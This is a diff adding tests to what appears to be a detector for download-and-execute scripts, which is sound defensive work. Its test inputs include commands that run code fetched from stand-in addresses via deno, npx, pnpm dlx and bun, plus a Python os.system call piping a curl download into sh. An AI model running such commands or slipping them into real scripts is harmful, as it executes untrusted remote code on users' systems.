@@ -349,3 +349,44 @@ describe('commands that print a credential, sent out', () => {
     ).not.toContain('script.env-exfil');
   });
 });
+
+describe('code run from an address by a runtime or a package runner', () => {
+  it.each([
+    ['deno run -A https://deno.img-cdn.example/setup.ts'],
+    ['npx -y https://img-cdn.example/helper-1.0.0.tgz'],
+    ['pnpm dlx git+https://git.img-cdn.example/h.git'],
+    ['bun https://img-cdn.example/i.ts'],
+  ])('%s', (cmd) => {
+    expect(rules(analyzeScript(cmd, 'sh', true))).toContain('script.download-execute');
+  });
+  it('quiet: registry packages and local files run the same way', () => {
+    expect(
+      analyzeScript(
+        'npx only-allow pnpm\nnpm exec --yes -- prettier --write .\ndeno run -A scripts/build.ts\nbun run build\n',
+        'sh',
+        true,
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('a shell command line given to Python', () => {
+  it('os.system with a download piped into sh is read by the shell rules', () => {
+    expect(
+      rules(analyzeScript("import os\nos.system('curl -s http://198.51.100.4/p | sh &')\n", 'python', true)),
+    ).toContain('shell.download-pipe-shell');
+  });
+  it('quiet: subprocess running a build', () => {
+    expect(
+      analyzeScript("import subprocess\nsubprocess.run('npm run build', shell=True)\n", 'python', true),
+    ).toEqual([]);
+  });
+});
+
+describe('a CLI command that runs a migration tool by its address', () => {
+  it('is not a download-and-run outside install (the user asked for it)', () => {
+    expect(
+      analyzeScript('npx -y https://releases.example/migrate-0.0.2.tgz --config c.json', 'sh', false),
+    ).toEqual([]);
+  });
+});
